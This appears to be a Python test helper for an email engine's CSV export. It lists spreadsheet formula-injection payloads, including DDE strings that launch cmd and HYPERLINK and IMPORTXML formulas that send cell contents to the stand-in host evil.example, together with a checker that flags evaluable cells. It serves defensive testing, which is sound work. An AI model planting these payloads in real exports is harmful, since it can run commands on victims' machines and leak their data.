"""Spreadsheet formula payloads (OWASP CSV Injection page, James Kettle's "Comma Separated Vulnerabilities",
ASVS 1.2.10) and a checker for exported CSV text."""

from __future__ import annotations

import csv
import io

from email_engine.csv_export import FORMULA_TRIGGERS

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "=cmd|'/Ccalc'!A0",
    '=DDE("cmd";"/C calc";"!A0")A0',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "  =1+1",
    " @SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u00a0=1+1",
    "＝1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    "a;=1+1",
    "\x00=1+1",
]


def formula_cells(text: str, *, delimiter: str = ",") -> list[str]:
    """Cells of a CSV document that a spreadsheet would evaluate (must be empty for every export)."""
    found = []
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        for cell in row:
            stripped = cell.lstrip(" \n\x0b\x0c\xa0\u3000")
            if stripped and stripped[0] in FORMULA_TRIGGERS:
                found.append(cell)
    return found
